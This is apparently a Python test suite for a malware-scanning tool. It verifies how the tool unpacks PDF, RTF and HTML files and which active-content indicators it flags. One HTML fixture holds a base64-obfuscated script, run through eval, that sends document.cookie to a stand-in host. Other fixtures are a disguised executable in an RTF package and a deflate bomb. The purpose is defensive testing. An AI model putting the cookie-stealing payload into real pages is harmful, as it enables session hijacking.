"""PDF, RTF and HTML end to end through `assay scan`.

PDFs come from LibreOffice headless (an HTML page with a title and an author, two pages) and are
rewritten by qpdf: with object streams, uncompressed (QDF), and with an attached file. Each report is
compared with independent readers: pdfinfo (poppler-utils) for the metadata, qpdf for every stream's
decoded bytes (--filtered-stream-data) and for which objects are streams (--json). A JavaScript PDF
with an /OpenAction and a link comes from pdf_writer.py; a broken PDF is the LibreOffice file cut
before its cross-reference table. RTFs with OLE1 objects come from rtf_ole_package.py.
"""
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pdf_writer  # noqa: E402
import rtf_ole_package  # noqa: E402
from scratch import ScratchTestCase  # noqa: E402

ASSAY = os.environ["ASSAY_BIN"]
HAVE_TOOLS = all(shutil.which(t) for t in ("soffice", "qpdf", "pdfinfo"))

PAGE = """<html><head><title>Quarterly Report</title><meta name="author" content="Ada Lovelace"></head>
<body><p>First page</p><p style="page-break-before: always">Second page</p></body></html>
"""

ID_JS, ID_OPEN_ACTION, ID_ADDITIONAL_ACTIONS, ID_EMBEDDED_FILE, ID_URI = 1801, 1802, 1803, 1805, 1806
ID_RTF_OBJECT, ID_RTF_EQUATION, ID_RTF_OBJUPDATE = 1821, 1822, 1823
ID_HTML_LONG, ID_HTML_EVAL, ID_HTML_WRITE = 1841, 1842, 1843


def sha256(data):
    return hashlib.sha256(data).hexdigest()


def scan(path):
    # Exit status 1 means something was detected (a decompression bomb, say); the report is whole.
    run = subprocess.run([ASSAY, "scan", "--report-type", "large", path], capture_output=True)
    assert run.returncode in (0, 1), run.stderr
    out = run.stdout
    return json.loads(out)["tc_report"]


def entry_hash(entry):
    return next(h["value"] for h in entry["info"]["file"]["hashes"] if h["name"] == "sha256")


def children(report):
    """{file_path relative to the root: sha256} for the root's direct children."""
    root = report[0]["info"]["file"]["file_path"]
    return {e["info"]["file"]["file_path"][len(root) + 1:]: entry_hash(e) for e in report if e.get("parent") == 0}


def indicators(entry):
    return {i["id"]: [r["description"] for r in i["reasons"]] for i in entry.get("indicators", [])}


@unittest.skipUnless(HAVE_TOOLS, "needs soffice, qpdf and pdfinfo (scripts/bootstrap.sh)")
class PdfTest(ScratchTestCase):
    scratch_prefix = "assay-pdf-"

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        page = os.path.join(cls.dir, "report.html")
        with open(page, "w") as f:
            f.write(PAGE)
        subprocess.run(["soffice", "--headless", "--convert-to", "pdf:writer_pdf_Export", "--outdir", cls.dir, page],
                       check=True, capture_output=True, timeout=120)
        cls.pdf = os.path.join(cls.dir, "report.pdf")
        cls.objstm = os.path.join(cls.dir, "objstm.pdf")
        cls.qdf = os.path.join(cls.dir, "qdf.pdf")
        cls.attached = os.path.join(cls.dir, "attached.pdf")
        cls.payload = os.path.join(cls.dir, "payload.txt")
        with open(cls.payload, "wb") as f:
            f.write(b"attached bytes \x00\x01\x02 " * 50)
        subprocess.run(["qpdf", "--object-streams=generate", "--compress-streams=y", cls.pdf, cls.objstm], check=True)
        subprocess.run(["qpdf", "--qdf", "--object-streams=disable", cls.pdf, cls.qdf], check=True)
        subprocess.run(["qpdf", cls.pdf, "--add-attachment", cls.payload, "--", cls.attached], check=True)

    def qpdf_streams(self, path):
        """{object number: sha256 of its decoded data} for every stream but xref and object streams."""
        info = json.loads(subprocess.run(["qpdf", "--json=2", "--json-key=qpdf", path], check=True,
                                         capture_output=True).stdout)
        streams = {}
        for key, value in info["qpdf"][1].items():
            match = re.fullmatch(r"obj:(\d+) 0 R", key)
            if not match or "stream" not in value:
                continue
            kind = value["stream"]["dict"].get("/Type")
            if kind in ("/XRef", "/ObjStm"):
                continue
            number = int(match.group(1))
            data = subprocess.run(["qpdf", "--show-object=%d" % number, "--filtered-stream-data", path],
                                  check=True, capture_output=True).stdout
            streams[number] = sha256(data)
        return streams

    def pdfinfo(self, path):
        out = subprocess.run(["pdfinfo", path], check=True, capture_output=True, text=True).stdout
        return {k.strip(): v.strip() for k, v in (line.split(":", 1) for line in out.splitlines() if ":" in line)}

    def test_metadata_agrees_with_pdfinfo(self):
        for path in (self.pdf, self.objstm, self.qdf):
            with self.subTest(path=os.path.basename(path)):
                document = scan(path)[0]["metadata"]["document"]
                info = self.pdfinfo(path)
                self.assertEqual(document["title"], info["Title"])
                self.assertEqual(document["author"], info["Author"])
                self.assertEqual(document["producer"], info["Producer"])
                self.assertEqual(document.get("creator"), info.get("Creator"))
                self.assertEqual(document["pages"], int(info["Pages"]))
                self.assertEqual(document["pages"], 2)
                self.assertEqual(document["pdf_version"], info["PDF version"])
                self.assertFalse(document["encrypted"])

    def test_every_stream_decodes_as_qpdf_does(self):
        for path in (self.pdf, self.objstm, self.qdf):
            with self.subTest(path=os.path.basename(path)):
                expected = {"stream/obj-%d" % n: h for n, h in self.qpdf_streams(path).items()}
                got = children(scan(path))
                # Empty streams are skipped by design (see engine/unpack/pdf.cpp).
                empty = sha256(b"")
                self.assertEqual(got, {k: v for k, v in expected.items() if v != empty})
                self.assertGreaterEqual(len(got), 3)

    def test_attachment_is_a_child_with_its_name(self):
        report = scan(self.attached)
        with open(self.payload, "rb") as f:
            expected = sha256(f.read())
        self.assertEqual(children(report).get("attachment/payload.txt"), expected)
        self.assertIn(ID_EMBEDDED_FILE, indicators(report[0]))

    def test_plain_document_has_no_active_content(self):
        found = indicators(scan(self.pdf)[0])
        for active in (ID_JS, ID_OPEN_ACTION, ID_EMBEDDED_FILE):
            self.assertNotIn(active, found)

    def test_javascript_open_action_and_links(self):
        path = os.path.join(self.dir, "js.pdf")
        with open(path, "wb") as f:
            f.write(pdf_writer.javascript_pdf())
        report = scan(path)
        found = indicators(report[0])
        self.assertEqual(found[ID_JS], ["objects 5, 9"])  # 9 spells its /S name with a #61 escape
        self.assertEqual(found[ID_ADDITIONAL_ACTIONS], ["object 3"])
        self.assertEqual(found[ID_OPEN_ACTION], ["object 1"])
        self.assertIn("object 7: http://example.test/x", found[ID_URI])
        document = report[0]["metadata"]["document"]
        self.assertEqual(document["author"], "Test (writer)")
        self.assertEqual(document["creation_date"], "2024-01-02T02:04:05Z")
        self.assertEqual(children(report)["stream/obj-6"], sha256(b"app.alert('hello from js');"))
        self.assertEqual(children(report)["stream/obj-4"], sha256(b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET"))
        self.assertEqual(children(report)["javascript/obj-9"], sha256(b"this.print({bUI: true});"))

    def test_every_filter_decodes_as_qpdf_does(self):
        import random
        rnd = random.Random(7)
        text = " ".join(rnd.choice(["alpha", "beta", "gamma", "delta"]) for _ in range(3000)).encode()
        payloads = {4: bytes(rnd.randrange(256) for _ in range(999)), 5: b"a" * 300 + text[:500],
                    6: text, 7: bytes(rnd.randrange(4) for _ in range(1000)), 12: b"embedded\n"}
        path = os.path.join(self.dir, "filters.pdf")
        with open(path, "wb") as f:
            f.write(pdf_writer.filters_pdf(payloads))
        qpdf = self.qpdf_streams(path)
        self.assertEqual(qpdf, {n: sha256(p) for n, p in payloads.items()})  # the writer is right
        report = scan(path)
        got = children(report)
        self.assertEqual(got, {**{"stream/obj-%d" % n: sha256(payloads[n]) for n in (4, 5, 6, 7)},
                               "attachment/a.txt": sha256(payloads[12])})
        found = indicators(report[0])
        self.assertEqual(found[1804], ["object 3"])  # /Launch
        self.assertEqual(found[1803], ["object 1"])  # /AA
        self.assertEqual(found[1807], ["object 1"])  # /AcroForm
        self.assertEqual(found[1808], ["object 1"])  # /XFA
        self.assertEqual(found[ID_EMBEDDED_FILE], ["objects 1, 9, 12"])

    def test_encrypted_document_is_reported_not_decrypted(self):
        locked = os.path.join(self.dir, "locked.pdf")
        subprocess.run(["qpdf", "--encrypt", "user", "owner", "256", "--", self.pdf, locked], check=True)
        report = scan(locked)
        document = report[0]["metadata"]["document"]
        self.assertTrue(document["encrypted"])
        self.assertEqual(document["pages"], int(self.pdfinfo_locked(locked)["Pages"]))
        self.assertNotIn("title", document)  # the /Info strings are encrypted too
        self.assertEqual(children(report), {})
        self.assertTrue(any("encrypted" in w for w in report[0]["info"]["unpacking"]["warnings"]))

    def pdfinfo_locked(self, path):
        out = subprocess.run(["pdfinfo", "-upw", "user", path], check=True, capture_output=True, text=True).stdout
        return {k.strip(): v.strip() for k, v in (line.split(":", 1) for line in out.splitlines() if ":" in line)}

    def test_deflate_bomb_stream_is_cut_and_the_rest_still_read(self):
        import zlib
        z = zlib.compressobj(9)
        bomb = b"".join(z.compress(b"\0" * (1 << 20)) for _ in range(64)) + z.flush()
        path = os.path.join(self.dir, "bomb.pdf")
        with open(path, "wb") as f:
            f.write(pdf_writer.build_pdf({
                1: "<< /Type /Catalog /Pages 2 0 R >>",
                2: "<< /Type /Pages /Count 0 /Kids [] >>",
                3: ("<< /Length %d /Filter /FlateDecode >>" % len(bomb), bomb),
                4: ("<< /Length 5 >>", b"hello"),
            }))
        report = scan(path)
        self.assertEqual(children(report), {"stream/obj-4": sha256(b"hello")})
        self.assertEqual(report[0]["info"]["unpacking"]["status"], 3)
        self.assertTrue(any("obj-3" in w for w in report[0]["info"]["unpacking"]["warnings"]))

    def test_broken_file_is_repaired_by_scanning(self):
        with open(self.pdf, "rb") as f:
            data = f.read()
        intact = children(scan(self.pdf))
        # Cut before the cross-reference table: no xref, no trailer, no startxref.
        cut = os.path.join(self.dir, "cut.pdf")
        with open(cut, "wb") as f:
            f.write(data[:data.rindex(b"xref")])
        report = scan(cut)
        self.assertEqual(children(report), intact)
        self.assertEqual(report[0]["metadata"]["document"]["title"], "Quarterly Report")
        # Cut in the middle of the file: the streams before the cut are still found, the same bytes.
        half = os.path.join(self.dir, "half.pdf")
        with open(half, "wb") as f:
            f.write(data[:len(data) // 2])
        partial = children(scan(half))
        complete = {k: v for k, v in partial.items() if intact.get(k) == v}
        self.assertGreaterEqual(len(complete), 1)


class RtfTest(ScratchTestCase):
    scratch_prefix = "assay-rtf-"

    def test_package_object_carries_its_file(self):
        carried = b"MZ pretend executable \x00\xff" * 40
        rtf = rtf_ole_package.rtf_with_object(rtf_ole_package.ole1_package("invoice.exe", carried))
        report = scan(self.write("doc.rtf", rtf))
        self.assertEqual(report[0]["info"]["file"]["file_subtype"], "RTF")
        self.assertEqual(children(report), {"object/invoice.exe": sha256(carried)})
        found = indicators(report[0])
        self.assertEqual(found[ID_RTF_OBJECT], ["Package"])
        self.assertNotIn(ID_RTF_EQUATION, found)
        self.assertNotIn(ID_RTF_OBJUPDATE, found)

    def test_hex_noise_is_skipped(self):
        carried = bytes(range(256)) * 4
        rtf = rtf_ole_package.rtf_with_object(rtf_ole_package.ole1_package("noisy.bin", carried), noise=True)
        self.assertIn(b"{\\*\\datastore 4142", rtf)
        self.assertEqual(children(scan(self.write("noisy.rtf", rtf))), {"object/noisy.bin": sha256(carried)})

    def test_equation_editor_and_objupdate(self):
        native = b"\x1c\x00\x00\x00" + b"\x90" * 200
        rtf = rtf_ole_package.rtf_with_object(rtf_ole_package.ole1_object("Equation.3", native), objupdate=True,
                                              class_name="Equation.3")
        report = scan(self.write("eq.rtf", rtf))
        found = indicators(report[0])
        self.assertIn(ID_RTF_EQUATION, found)
        self.assertIn(ID_RTF_OBJUPDATE, found)
        self.assertEqual(children(report), {"object/object-0": sha256(native)})


class HtmlTest(ScratchTestCase):
    scratch_prefix = "assay-html-"

    def scan_page(self, text):
        return scan(self.write("page.html", text))

    def test_scripts_and_data_uris(self):
        import base64
        script = "\n  var total = 1 + 2;\n  console.log(total);\n"
        image = bytes(range(256)) * 3
        page = ("<!DOCTYPE html>\n<html><head><title>t</title><SCRIPT type=\"text/javascript\">%s</SCRIPT>"
                "<script src=\"ext.js\"></script></head><body><p>hello</p>"
                "<img alt=\"x > y\" src=\"data:image/png;base64,%s\">"
                "<a href='data:text/plain,hello%%20world'>t</a></body></html>\n"
                % (script, base64.b64encode(image).decode()))
        report = self.scan_page(page)
        self.assertEqual(children(report), {
            "script/script-0": sha256(script.encode()),
            "data-uri/data-0": sha256(image),
            "data-uri/data-1": sha256(b"hello world"),
        })
        self.assertEqual(indicators(report[0]), {})

    def test_obfuscated_eval_of_decoded_code(self):
        import base64
        hidden = base64.b64encode(b"document.location='http://evil.test/?' + document.cookie;" * 8).decode()
        page = ("<html><body><script>var p = '%s';\neval(atob(p));\n"
                "document.write(unescape('%%3Cb%%3Ehi%%3C/b%%3E'));</script></body></html>" % hidden)
        found = indicators(self.scan_page(page)[0])
        self.assertIn(ID_HTML_EVAL, found)
        self.assertIn("eval", found[ID_HTML_EVAL][0])
        self.assertIn(ID_HTML_LONG, found)
        self.assertIn(ID_HTML_WRITE, found)


if __name__ == "__main__":
    unittest.main()
